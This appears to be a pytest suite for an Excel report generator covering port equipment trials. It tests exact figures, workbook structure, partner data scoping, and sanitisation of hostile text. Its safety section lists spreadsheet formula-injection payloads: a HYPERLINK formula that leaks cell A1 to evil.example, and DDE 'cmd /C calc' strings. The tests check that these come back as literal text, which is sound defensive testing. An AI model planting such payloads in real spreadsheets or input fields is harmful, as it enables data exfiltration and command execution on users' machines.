"""Excel reports: figures exactly as trials.metrics gives them, hostile text kept literal, nothing outside the scope."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from defusedxml.ElementTree import fromstring
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook
from sqlalchemy.engine import Engine
from sqlmodel import Session, col

from app.cli_report import report
from reports.data import NothingToReport, Selection
from reports.methodology import METRICS
from reports.safe import MAX_CELL_CHARS, clean_text, starts_like_formula
from reports.sheets import MEASUREMENT_FIELDS, TOTALLED_UNITS, metric_header
from reports.workbook import write_report
from reports.xlsx import Column, Line, Properties, Sheet, SheetTable, write_xlsx
from tests.conftest import demo_database
from tests.factories import make_measurement, make_trial, make_unit
from trials.db import read_session
from trials.factors import DEFAULT_SET, load_factors
from trials.metrics import METRIC_KEYS, METRIC_UNITS, compute, total
from trials.models import EquipmentClass, Measurement, Role, Trial, Unit
from trials.queries import list_ports, list_trials, monthly_inputs, trial_metrics
from trials.scope import Scope

AS_OF = date(2025, 12, 31)
GENERATED = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
OPERATOR = Scope.operator()
LGB_PARTNER = Scope(role=Role.partner, port_locode="USLGB")
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
#: Text a spreadsheet would run, link or choke on, stored in the fields partners fill in.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "bell\x07 escape\x1b vertical tab\x0b",
    "<b>&amp;</b> ]]> \"quoted\" 'single'",
    "  spaced out  ",
)


def build(session: Session, scope: Scope = OPERATOR, selection: Selection | None = None, **options: Any) -> bytes:
    """Write a report into memory, at fixed dates so that it is reproducible."""
    target = io.BytesIO()
    write_report(
        target,
        session=session,
        scope=scope,
        selection=selection or Selection(),
        as_of=AS_OF,
        generated_at=GENERATED,
        **options,
    )
    return target.getvalue()


def open_book(content: bytes) -> Workbook:
    """Read a report back as a user's spreadsheet would, warnings failing the test."""
    return load_workbook(io.BytesIO(content))


def table_rows(book: Workbook, table: str) -> list[dict[str, Any]]:
    """Read one Excel table back as dicts by header, through the range the table itself declares."""
    sheet = next(ws for ws in book.worksheets if table in ws.tables)
    header, *rows = sheet[sheet.tables[table].ref]
    names = [cell.value for cell in header]
    return [dict(zip(names, (cell.value for cell in row), strict=True)) for row in rows]


def as_read(value: Any) -> Any:
    """What openpyxl gives back for a value written to a cell: dates as midnight datetimes, "" as empty."""
    if isinstance(value, date) and not isinstance(value, datetime):
        return datetime(value.year, value.month, value.day)
    return None if value == "" else value


def parts(content: bytes) -> dict[str, str]:
    """Every part of the xlsx package, as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name).decode("utf-8") for name in package.namelist()}


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def demo(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """The demo data (25 trials at 8 ports, some private) imported once per database, for tests that only read."""
    with demo_database(request.param, tmp_path_factory.mktemp("demo"), AS_OF + timedelta(days=1)) as engine:
        yield engine


@pytest.fixture(scope="module")
def reader(demo: Engine) -> Iterator[Session]:
    """A session on the demo data for the figures a report must show."""
    with read_session(demo) as session:
        yield session


@pytest.fixture(scope="module")
def operator_book(demo: Engine) -> Workbook:
    """The operator's report of every demo trial, without the raw rows."""
    with read_session(demo) as session:
        return open_book(build(session, include_measurements=False))


@pytest.fixture(scope="module")
def long_beach_book(demo: Engine) -> Workbook:
    """The operator's report of Long Beach, raw rows included."""
    with read_session(demo) as session:
        return open_book(build(session, selection=Selection(port="USLGB")))


@pytest.fixture
def hostile(session: Session) -> list[Trial]:
    """One trial per hostile text, in its name, vendor and notes, with a measurement noting it too."""
    trials = []
    for number, text in enumerate(HOSTILE):
        trial = make_trial(
            session, code=f"EVIL-{number}", name=text, vendor=text, notes=text, baseline_rate=3.0, baseline_unit="L/h"
        )
        make_measurement(session, make_unit(session, trial), date(2025, 3, 1), operating_hours=8.0, notes=text)
        trials.append(trial)
    return trials


# --- exact figures ---------------------------------------------------------------------------------------------


def _expected_trial_row(session: Session, trial: Trial) -> list[Any]:
    """A trial's row as the Trials sheet must show it, built from the trial and trials.queries alone."""
    result = trial_metrics(session=session, scope=OPERATOR, trial=trial, as_of=AS_OF)
    port = {port.locode: port for port in list_ports(session=session)}[trial.port_locode]
    baseline = result.baseline
    fields = [
        trial.code, trial.name, trial.port_locode, port.name, trial.terminal, trial.equipment_class.value,
        trial.technology.value, trial.status.value, trial.visibility.value, trial.units_planned, trial.start_date,
        trial.end_date, trial.vendor, trial.model, trial.funding, trial.rated_power_kw,
        baseline.method if baseline else "none", baseline.litres_per_activity if baseline else None,
        baseline.activity.value if baseline else None, result.factor_set, result.basis, ", ".join(result.flags),
        *[result.values[key] for key in METRIC_KEYS], trial.notes,
    ]  # fmt: skip
    return [as_read(value) for value in fields]


def test_trials_sheet_rows_equal_trials_metrics_to_the_digit(reader: Session, operator_book: Workbook) -> None:
    rows = table_rows(operator_book, "Trials")
    trials = list_trials(session=reader, scope=OPERATOR)
    assert len(trials) == 25
    assert [list(row.values()) for row in rows] == [_expected_trial_row(reader, trial) for trial in trials]
    assert list(rows[0])[22:-1] == [metric_header(key) for key in METRIC_KEYS]


def test_monthly_rows_equal_the_formulas_on_each_months_sums(reader: Session, operator_book: Workbook) -> None:
    rows = table_rows(operator_book, "Monthly")
    factors = load_factors(reader)
    expected = []
    for trial in list_trials(session=reader, scope=OPERATOR):
        for month, inputs in monthly_inputs(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF).items():
            values = compute(inputs, factors).values
            expected.append([trial.code, as_read(month), *[values[key] for key in METRIC_KEYS]])
    assert [[row["Trial"], row["Month"], *[row[metric_header(k)] for k in METRIC_KEYS]] for row in rows] == expected


def test_months_add_up_to_the_trial(reader: Session, operator_book: Workbook) -> None:
    rows = table_rows(operator_book, "Monthly")
    for trial in list_trials(session=reader, scope=OPERATOR):
        whole = trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF).values
        for key in ("operating_hours", "energy_kwh", "hydrogen_kg", "diesel_l"):
            months = [row[metric_header(key)] for row in rows if row["Trial"] == trial.code]
            assert total(months) == pytest.approx(whole[key]), (trial.code, key)


def test_summary_totals_the_trials_metrics(reader: Session, operator_book: Workbook) -> None:
    book = operator_book
    trials = list_trials(session=reader, scope=OPERATOR)
    results = [trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF) for trial in trials]
    headline = {row["Metric key"]: row for row in table_rows(book, "Headline")}
    assert list(headline) == [key for key in METRIC_KEYS if METRIC_UNITS[key] in TOTALLED_UNITS]
    for key, row in headline.items():
        values = [result.values[key] for result in results]
        assert row["Total"] == total(values)
        assert row["Trials with a value"] == sum(value is not None for value in values)
    summary = book["Summary"]
    assert book.defined_names["MeasurementRows"].attr_text == "'Summary'!$B$13"
    assert summary["B13"].value == reader.execute(sa.select(sa.func.count()).select_from(Measurement)).scalar_one()
    assert summary["B9"].value == 25
    assert summary["B5"].value == GENERATED.replace(tzinfo=None)


def test_comparison_puts_ports_side_by_side_with_a_chart_per_class_and_activity(demo: Engine, reader: Session) -> None:
    yard_tractors = Selection(equipment_class=EquipmentClass.yard_tractor)
    with read_session(demo) as session:
        book = open_book(build(session, selection=yard_tractors, include_measurements=False))
    rows = table_rows(book, "Comparison")
    results = {
        trial.code: trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF)
        for trial in list_trials(session=reader, scope=OPERATOR, equipment_class=EquipmentClass.yard_tractor)
    }
    assert {row["Port"] for row in rows} == {"USLAX", "USLGB", "JPNGO", "SGSIN", "IDTPP"}
    assert rows[0]["Activity unit"] == "hour" and rows[0]["Primary activity"] == "primary"
    for row in rows:
        assert row["Energy intensity (kWh per activity unit)"] == results[row["Trial"]].values[row["Metric key"]]
    charts = book["Comparison"]._charts
    blocks = list(dict.fromkeys(row["Activity unit"] for row in rows))
    assert len(charts) == len(blocks)
    assert charts[0].series[0].cat.strRef.f == f"'Comparison'!$E$2:$E${1 + len(results)}"
    assert charts[0].series[0].val.numRef.f == f"'Comparison'!$J$2:$J${1 + len(results)}"


def test_measurements_sheet_holds_every_raw_row(reader: Session, long_beach_book: Workbook) -> None:
    rows = table_rows(long_beach_book, "Measurements")
    query = (
        sa.select(col(Trial.code), col(Unit.unit_id), col(Unit.role), col(Measurement.period_start),
                  col(Measurement.energy_kwh), col(Measurement.diesel_l), col(Measurement.moves))
        .join(Unit, col(Unit.id) == col(Measurement.unit_id))
        .join(Trial, col(Trial.id) == col(Measurement.trial_id))
        .where(col(Trial.port_locode) == "USLGB")
    )  # fmt: skip
    stored = sorted(tuple(as_read(value) for value in row) for row in reader.execute(query))
    written = [
        (row["Trial"], row["Unit"], row["Role"], row["Period start"], row["Energy (kWh)"], row["Diesel (L)"],
         row["Moves"])
        for row in rows
    ]  # fmt: skip
    assert sorted(written) == stored
    assert list(rows[0])[4:] == [header for _field, header, _style in MEASUREMENT_FIELDS]


def test_floats_that_need_17_digits_come_back_unchanged(session: Session) -> None:
    trial = make_trial(session)
    unit = make_unit(session, trial)
    make_measurement(session, unit, date(2025, 1, 1), energy_kwh=0.1, operating_hours=1 / 3)
    make_measurement(session, unit, date(2025, 1, 2), energy_kwh=0.2, operating_hours=2 / 3)
    (row,) = table_rows(open_book(build(session)), "Trials")
    values = trial_metrics(session=session, scope=OPERATOR, trial=trial, as_of=AS_OF).values
    assert values["energy_kwh"] == 0.30000000000000004  # which '%.16g' would have written as 0.3
    assert row["energy_kwh (kWh)"] == values["energy_kwh"]
    assert row["kwh_per_hour (kWh/h)"] == values["kwh_per_hour"]


def test_raw_rows_are_left_out_when_not_wanted(session: Session) -> None:
    make_trial(session)
    book = open_book(build(session, include_measurements=False))
    assert book.sheetnames == ["Summary", "Comparison", "Trials", "Monthly", "Methodology", "Data quality"]


# --- spreadsheet craft -------------------------------------------------------------------------------------------


def test_every_sheet_has_a_frozen_header_a_table_and_sensible_widths(long_beach_book: Workbook) -> None:
    book = long_beach_book
    assert book.sheetnames == [
        "Summary", "Comparison", "Trials", "Monthly", "Measurements", "Methodology", "Data quality"
    ]  # fmt: skip
    for name, frozen in [("Comparison", "A2"), ("Trials", "B2"), ("Monthly", "F2"), ("Measurements", "E2")]:
        sheet: Worksheet = book[name]
        assert sheet.freeze_panes == frozen
        (table,) = sheet.tables.values()
        assert table.autoFilter is not None and table.ref.startswith("A1:")
        assert all(sheet.column_dimensions[letter].width >= 8 for letter in ("A", "B", "C"))
    trials = book["Trials"]
    assert trials["K2"].number_format == "yyyy-mm-dd" and isinstance(trials["K2"].value, datetime)
    assert trials["W1"].value == "operating_hours (h)" and trials["W2"].number_format == "#,##0.0"
    assert book["Monthly"]["E2"].number_format == "yyyy-mm"


def test_document_properties_and_names_say_what_the_file_is(long_beach_book: Workbook) -> None:
    book = long_beach_book
    assert book.properties.title == "ZE Trials report: Port USLGB (Long Beach)"
    assert book.properties.created == GENERATED.replace(tzinfo=None)
    assert DEFAULT_SET in book.properties.keywords
    custom = {prop.name: prop.value for prop in book.custom_doc_props}
    assert custom["Scope"] == "Port USLGB (Long Beach)" and custom["Factor set"] == DEFAULT_SET
    assert custom["Generated at"] == GENERATED.replace(tzinfo=None)
    assert {"ReportScope", "GeneratedAt", "FactorSet", "AsOf", "TrialCount"} <= set(book.defined_names)
    methodology = table_rows(book, "Factors")
    assert {"diesel_ttw", "grid", "nox"} <= {row["Factor key"] for row in methodology}
    assert all(row["Source"] for row in methodology)
    assert {row["Baseline method"] for row in table_rows(book, "Baselines")} <= {"measured", "declared", "none"}


def test_methodology_explains_exactly_the_canonical_metrics() -> None:
    assert list(METRICS) == list(METRIC_KEYS)


# --- safety ------------------------------------------------------------------------------------------------------


def test_hostile_text_comes_back_literal_and_never_as_a_formula(session: Session, hostile: list[Trial]) -> None:
    content = build(session)
    book = open_book(content)
    rows = {row["Trial"]: row for row in table_rows(book, "Trials")}
    for trial, text in zip(hostile, HOSTILE, strict=True):
        row = rows[trial.code]
        assert row["Name"] == row["Vendor"] == row["Notes"] == clean_text(text)
    notes = {row["Notes"] for row in table_rows(book, "Measurements")}
    assert notes == {clean_text(text) for text in HOSTILE}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and starts_like_formula(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
    package = parts(content)
    assert not any("externalLink" in name for name in package)
    assert not any("<f>" in text or "<f " in text for name, text in package.items() if name.startswith("xl/"))


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("bell\x07", "bell\u2407"),
        ("nul\x00", "nul\u2400"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
        ("not a character \uffff", "not a character \ufffd"),
        ("tab\tnewline\ncarriage\r", "tab\tnewline\ncarriage\r"),
        ("x" * (MAX_CELL_CHARS + 10), "x" * (MAX_CELL_CHARS - 1) + "\u2026"),
    ],
)
def test_clean_text_keeps_the_file_storable(text: str, stored: str) -> None:
    assert clean_text(text) == stored


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_formula_triggers_are_recognised(text: str) -> None:
    assert starts_like_formula(text)


def test_text_no_database_can_hold_still_saves_and_reads_back(tmp_path: Path) -> None:
    texts = ["nul\x00", "lone \ud800", "\x01\x02\x1f", "a_x0041_b", "=cmd|' /C calc'!A0", "ok"]
    table = SheetTable("Hostile", [Column("Text", 20)], [[text] for text in texts], len(texts))
    target = io.BytesIO()
    write_xlsx(target, [Sheet("Hostile", [Line(["title\x00"]), table])], _properties())
    book = open_book(target.getvalue())
    read = [row["Text"] for row in table_rows(book, "Hostile")]
    assert read[:3] == [clean_text(text) for text in texts[:3]]
    assert read[4:] == texts[4:]
    assert book["Hostile"]["A1"].value == "title\u2400"
    # Excel decodes _xHHHH_ in cell text; its underscore is escaped so that Excel shows the text as it is.
    assert "a_x005F_x0041_b" in parts(target.getvalue())["xl/worksheets/sheet1.xml"]


def _properties() -> Properties:
    """Plain document properties for hand-built workbooks."""
    return Properties("t", "s", "d", "k", GENERATED)


def test_a_table_that_breaks_its_row_count_stops_the_write() -> None:
    table = SheetTable("Short", [Column("A")], iter([[1], [2]]), 3)
    with pytest.raises(RuntimeError, match="promised 3 rows and got 2"):
        write_xlsx(io.BytesIO(), [Sheet("S", [table])], _properties())


@pytest.mark.usefixtures("hostile")
def test_the_file_passes_a_strict_read_back(session: Session) -> None:
    content = build(session)
    for name, text in parts(content).items():
        if name.endswith((".xml", ".rels")):
            fromstring(text.encode())  # every part is well-formed XML
    assert open_book(content).sheetnames  # openpyxl, warnings failing the test
    streamed = load_workbook(io.BytesIO(content), read_only=True)
    counts = {sheet.title: sum(1 for _ in sheet.iter_rows()) for sheet in streamed.worksheets}
    streamed.close()
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert {name: len(calamine.get_sheet_by_name(name).to_python()) for name in calamine.sheet_names} == counts


# --- scope -------------------------------------------------------------------------------------------------------


def test_a_partners_report_holds_no_trace_of_other_ports_private_trials(demo: Engine, reader: Session) -> None:
    with read_session(demo) as session:
        content = build(session, scope=LGB_PARTNER)
    package = parts(content)
    everything = "\n".join(package.values())
    trials = list_trials(session=reader, scope=OPERATOR)
    results = {trial.code: trial_metrics(session=reader, scope=OPERATOR, trial=trial, as_of=AS_OF) for trial in trials}
    hidden = [trial for trial in trials if not LGB_PARTNER.can_see(trial)]
    visible = [trial for trial in trials if LGB_PARTNER.can_see(trial)]
    assert {trial.port_locode for trial in hidden} >= {"USLAX", "SGSIN", "JPNGO"}
    for trial in hidden:
        assert trial.code not in everything
        assert trial.name not in everything
        for key in ("energy_kwh", "operating_hours", "ghg_wtw_kg", "final_energy_kwh"):
            value = results[trial.code].values[key]
            assert value is None or repr(value) not in everything, (trial.code, key)
    assert repr(total(result.values["energy_kwh"] for result in results.values())) not in everything
    book = load_workbook(io.BytesIO(content), read_only=True)
    assert book["Summary"]["B9"].value == len(visible)
    assert [row[0] for row in book["Trials"].iter_rows(min_row=2, values_only=True)] == [t.code for t in visible]
    book.close()
    of_visible = col(Measurement.trial_id).in_([trial.id for trial in visible])
    visible_rows = reader.execute(sa.select(sa.func.count()).where(of_visible)).scalar_one()
    assert package["xl/worksheets/sheet5.xml"].count("<row ") == 1 + visible_rows


@pytest.mark.parametrize(
    "selection",
    [
        Selection(port="SGSIN"),
        Selection(port="ZZZZZ"),
        Selection(trial_codes=("SIN-PRIV",)),
        Selection(trial_codes=("LGB-1", "NOPE")),
        Selection(equipment_class=EquipmentClass.tug),
        Selection(port="USLGB", trial_codes=("SIN-PRIV",)),
    ],
)
def test_selections_outside_the_scope_hold_nothing_to_report(session: Session, selection: Selection) -> None:
    make_trial(session, code="SIN-PRIV", port_locode="SGSIN")
    make_trial(session, code="LGB-1")
    with pytest.raises(NothingToReport):
        build(session, scope=LGB_PARTNER, selection=selection)


def test_a_report_refuses_a_session_that_has_read_already(session: Session) -> None:
    make_trial(session)
    list_trials(session=session, scope=OPERATOR)
    with pytest.raises(RuntimeError, match="fresh session"):
        build(session)


# --- the command line and a real spreadsheet ----------------------------------------------------------------------


def test_report_command_writes_the_selected_trials(runner: CliRunner, session: Session, tmp_path: Path) -> None:
    make_trial(session, code="LGB-1")
    make_trial(session, code="LGB-2", equipment_class=EquipmentClass.rtg_crane)
    make_trial(session, code="SIN-1", port_locode="SGSIN")
    (tmp_path / "out").mkdir()
    output = tmp_path / "out" / "lgb.xlsx"
    result = runner.invoke(report, ["--port", "USLGB", "--class", "yard_tractor", "-o", str(output)])
    assert result.exit_code == 0, result.output
    assert result.output == f"Wrote {output}: 1 trial, 0 measurement rows.\n"
    assert [row["Trial"] for row in table_rows(load_workbook(output), "Trials")] == ["LGB-1"]
    assert list(output.parent.iterdir()) == [output]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--trial", "NOPE", "-o", "x.xlsx"], "no trial 'NOPE' in this selection"),
        (["--port", "ZZZZZ", "-o", "x.xlsx"], "no port 'ZZZZZ'"),
        (["-o", "x.csv"], "name the output file *.xlsx"),
    ],
)
def test_report_command_refuses_clearly(
    runner: CliRunner, session: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str],
    message: str
) -> None:  # fmt: skip
    make_trial(session)
    (tmp_path / "out").mkdir()
    monkeypatch.chdir(tmp_path / "out")
    result = runner.invoke(report, arguments)
    assert result.exit_code != 0
    assert message in result.output
    assert list(Path().iterdir()) == []


@pytest.fixture
def libreoffice(tmp_path: Path) -> Iterator[list[str]]:
    """LibreOffice headless with a profile of its own, or a skip saying how to get it."""
    if SOFFICE is None:
        pytest.skip(
            "LibreOffice is not installed (apt-get install libreoffice-calc-nogui): real-consumer check skipped"
        )
    yield [SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless"]


def test_libreoffice_opens_the_report_and_shows_hostile_text_as_text(
    session: Session, hostile: list[Trial], libreoffice: list[str], tmp_path: Path
) -> None:
    workbook = tmp_path / "report.xlsx"
    workbook.write_bytes(build(session))
    out = tmp_path / "out"
    convert = [*libreoffice, "--convert-to", "pdf", "--outdir", str(out), str(workbook)]
    subprocess.run(convert, check=True, capture_output=True, timeout=300)
    assert (out / "report.pdf").read_bytes().startswith(b"%PDF")
    # Sheet 3 (Trials) as CSV, as LibreOffice computed it: a formula would show its result, not its text.
    trials_csv = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3"
    subprocess.run([*libreoffice, "--convert-to", trials_csv, "--outdir", str(out), str(workbook)],
                   check=True, capture_output=True, timeout=300)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO((out / "report-Trials.csv").read_text(encoding="utf-8"), newline="")))
    names = {row["Trial"]: row["Name"] for row in rows}
    for trial, text in zip(hostile, HOSTILE, strict=True):
        assert names[trial.code] == clean_text(text).replace("\r", "\n"), trial.code
    assert [row["Trial"] for row in rows] == [trial.code for trial in hostile]
